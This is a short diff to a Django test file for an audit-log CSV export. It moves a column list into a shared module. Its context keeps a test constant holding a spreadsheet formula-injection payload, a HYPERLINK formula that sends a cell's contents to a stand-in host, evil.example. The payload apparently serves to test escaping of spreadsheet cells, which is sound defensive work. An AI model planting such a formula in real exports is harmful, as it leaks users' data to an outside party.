@@ -12,7 +12,7 @@ from urllib.parse import parse_qs, urlsplit
 import pytest
 from django.test import Client
 
-from tests.audit.events import at, march_events, record_at
+from tests.audit.events import COLUMNS, at, march_events, record_at
 from tests.web.conftest import submit_login
 from tokenward.audit.models import Action, AuditEvent
 from tokenward.audit.renderers import spreadsheet_cell
@@ -24,19 +24,6 @@ pytestmark = pytest.mark.django_db
 
 URL = "/api/audit-events"
 CSV = {"format": "csv"}
-COLUMNS = [
-    "id",
-    "at",
-    "action",
-    "actor",
-    "subject",
-    "credential_kind",
-    "credential_id",
-    "method",
-    "reason",
-    "address",
-    "user_agent",
-]
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 
 
